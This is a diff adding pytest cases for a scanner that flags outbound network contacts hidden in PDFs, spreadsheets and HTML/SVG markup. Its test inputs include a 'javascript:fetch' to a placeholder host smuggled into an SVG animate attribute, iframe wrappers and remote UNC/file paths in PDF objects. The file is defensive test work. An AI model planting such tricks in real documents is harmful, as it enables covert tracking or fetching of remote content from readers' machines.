@@ -3,7 +3,9 @@
 from __future__ import annotations
 
 import pytest
+from pikepdf import Dictionary, Name
 
+from tests.examine.outbound.documents_kit import pdf
 from tests.examine.outbound.outbound_kit import HOST, outbound
 
 WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
@@ -77,3 +79,48 @@ def test_documents_that_stay_at_home(data: str, file: str) -> None:
 def test_formula_whose_host_is_whole_is_named() -> None:
     facts = outbound(FORMULA.format('WEBSERVICE("https://x.example/a?b="&amp;A1)'), "sheet1.xml")
     assert [(fact.host, fact.reach) for fact in facts] == [(HOST, "automatic")]
+
+
+SVG = f"%3Csvg xmlns=%22http://www.w3.org/2000/svg%22%3E%3Cimage href=%22//{HOST}/a%22/%3E%3C/svg%3E"
+UNC = rf"\\{HOST}\a"
+
+
+def holding(parts: Dictionary) -> bytes:
+    """Return a PDF whose root holds an object."""
+    return pdf(lambda document, _page: document.Root.__setitem__("/X", document.make_indirect(parts)))
+
+
+@pytest.mark.parametrize(
+    "parts",
+    [
+        Dictionary(Type=Name.XObject, Ref=Dictionary(F=UNC, Page=0)),
+        Dictionary(Subtype=Name.Movie, Movie=Dictionary(F=f"//{HOST}/a")),
+        Dictionary(Type=Name.Filespec, UF=f"file:////{HOST}/a"),
+    ],
+)
+def test_file_on_another_machine_is_a_contact_of_a_pdf(parts: Dictionary) -> None:
+    facts = outbound(holding(parts), "a.pdf")
+    assert {(fact.host, fact.reach) for fact in facts} == {(HOST, "conditional")}
+
+
+def test_file_of_the_same_folder_is_none_of_a_pdf() -> None:
+    near = Dictionary(Type=Name.Filespec, F="a/b.pdf", UF="/c/d.pdf")
+    assert outbound(holding(near), "a.pdf") == []
+
+
+@pytest.mark.parametrize(
+    "markup",
+    [
+        f"<iframe src='ms-word:ofe|u|https://{HOST}/a.docx'></iframe>",
+        f"<iframe src='view-source:https://{HOST}/a'></iframe>",
+        f"<svg><a><animate attributeName=href values='javascript:fetch(`//{HOST}`)'/></a></svg>",
+        f"<svg><use href='data:image/svg+xml,{SVG}'/></svg>",
+    ],
+)
+def test_address_wrapped_in_another(markup: str) -> None:
+    assert HOST in {fact.host for fact in outbound(markup) if fact.reach not in ("text", "identifier", "link")}
+
+
+@pytest.mark.parametrize("address", ["ms-settings:display", "mailto:a@x.example", "view-source:a.html", "tel:1"])
+def test_address_that_wraps_none(address: str) -> None:
+    assert outbound(f"<iframe src='{address}'></iframe>") == []
